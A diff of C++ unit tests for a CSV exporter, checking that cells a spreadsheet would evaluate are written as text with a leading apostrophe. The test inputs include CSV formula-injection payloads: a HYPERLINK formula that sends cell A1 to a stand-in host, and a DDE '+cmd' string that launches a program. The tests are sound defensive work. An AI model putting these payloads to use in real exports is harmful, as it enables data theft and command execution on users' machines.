@@ -86,6 +86,32 @@ TEST(CsvExport, CommaAndLineBreakStayInsideTheQuotedField)
               "\"A\",\"B\"\r\n\"1,5\",\"first\r\nsecond\"\r\n");
 }
 
+TEST(CsvExport, CellsASpreadsheetWouldRunAreWrittenAsText)
+{
+    const std::pair<std::string, std::string> formulas[] = {
+        {"=HYPERLINK(\"http://x.invalid/?\"&A1,\"Click\")",
+         "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"Click\"\")\""},
+        {"+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""},
+        {"@SUM(1,2)", "\"'@SUM(1,2)\""},
+        {"-2+3", "\"'-2+3\""},
+        {"\t=1", "\"'\t=1\""},
+        {"\r=1", "\"'\r=1\""},
+        {"-", "\"'-\""},
+        {"-1,02", "\"'-1,02\""},
+        {"-0001/-01/-01 -01:-01:-01", "\"'-0001/-01/-01 -01:-01:-01\""},
+    };
+    for (const auto& [cell, field] : formulas) {
+        EXPECT_EQ(CsvField(cell), field);
+        EXPECT_EQ(CsvField(cell, CsvCells::Raw).substr(1, 1), cell.substr(0, 1)) << "raw: as it is";
+    }
+    for (const char* number : {"-1", "-1,024", "-3.5", "+12", "-.5", "-1,234,567.25"})
+        EXPECT_EQ(CsvField(number), "\"" + std::string(number) + "\"") << "a number stays a number";
+    for (const char* text : {"a=b", " =1", "1+1", ""})
+        EXPECT_EQ(CsvField(text).find('\''), std::string::npos) << text;
+    EXPECT_EQ(Csv(Model({"Value"}, {{"@SUM(1,2)"}, {"-1,024"}})),
+              "\"Value\"\r\n\"'@SUM(1,2)\"\r\n\"-1,024\"\r\n");
+}
+
 TEST(CsvExport, MissingCellsOfAShortRowAreEmpty)
 {
     EXPECT_EQ(Csv(Model({"A", "B", "C"}, {{"1"}})), "\"A\",\"B\",\"C\"\r\n\"1\",\"\",\"\"\r\n");
@@ -121,9 +147,10 @@ TEST(TextSink, EveryLineFeedBecomesCrLf)
 TEST_F(CsvFileTest, SavedFileHoldsTheBytes)
 {
     const std::string path = TempPath("mirel_csv_test.csv");
-    ResultModel model = Model({"Group", "Name"}, {{"1", "x\"y"}});
+    ResultModel model = Model({"Group", "Name"}, {{"1", "x\"y"}, {"-1", "=1+1"}});
     ASSERT_EQ(SaveCsv(model, path), kExportDone);
-    EXPECT_EQ(ReadFile(path), "\"Group\",\"Name\"\r\n\"1\",\"x\"\"y\"\r\n");
+    EXPECT_EQ(ReadFile(path),
+              "\"Group\",\"Name\"\r\n\"1\",\"x\"\"y\"\r\n\"-1\",\"'=1+1\"\r\n");
     EXPECT_TRUE(reporter_.messages.empty());
     DeleteFileA(path.c_str());
 }
